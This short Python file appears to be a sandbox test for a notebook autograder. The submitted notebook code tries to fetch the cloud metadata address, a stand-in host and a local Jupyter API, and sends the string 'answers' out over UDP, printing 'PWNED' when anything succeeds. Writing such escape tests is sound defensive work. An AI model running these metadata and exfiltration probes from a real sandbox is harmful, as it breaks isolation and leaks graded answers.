"""The answers are sent out, and others fetched, by HTTP, DNS, the cloud's metadata address and pip."""
from ..craft import submit


def hand_in(folder, notebook):
    submit(folder, notebook, gan_value="""
        import socket, subprocess, sys, urllib.request
        for address in ("http://169.254.169.254/", "http://192.0.2.1/", "http://example.invalid/", "http://127.0.0.1:8888/api"):
            try:
                print("PWNED", urllib.request.urlopen(address, timeout=0.3).read())
            except Exception as error:
                print(type(error).__name__)
        mail = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for address in (("192.0.2.1", 53), ("255.255.255.255", 9), ("224.0.0.1", 9)):
            try:
                mail.sendto(b"answers", address)
                print("PWNED")
            except OSError as error:
                print(error)
        """)
